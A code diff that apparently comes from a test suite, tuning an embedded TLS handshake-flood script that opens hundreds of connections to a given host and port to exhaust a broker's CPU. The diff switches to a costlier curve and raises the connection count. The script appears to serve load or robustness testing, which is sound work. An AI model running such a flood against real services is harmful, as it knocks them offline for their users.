@@ -440,15 +440,16 @@ ATTACK = """
 import contextlib, os, socket, ssl, sys
 said = ssl.MemoryBIO()
 context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+context.set_ecdh_curve("secp521r1")  # makes the broker work for some ms
 with contextlib.suppress(ssl.SSLWantReadError):
     context.wrap_bio(ssl.MemoryBIO(), said, server_hostname="localhost").do_handshake()
 good = said.read()
 host, _, port = sys.argv[1].rpartition(":")
 for _ in range(5):
-    many = [socket.create_connection((host, int(port)), 20) for _ in range(200)]
+    many = [socket.create_connection((host, int(port)), 20) for _ in range(250)]
     for sock in many:
         with contextlib.suppress(OSError):
-            sock.sendall(good)  # each makes the broker work for a ms, or more
+            sock.sendall(good)
 hello = b"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03"
 silent = []
 number = 0
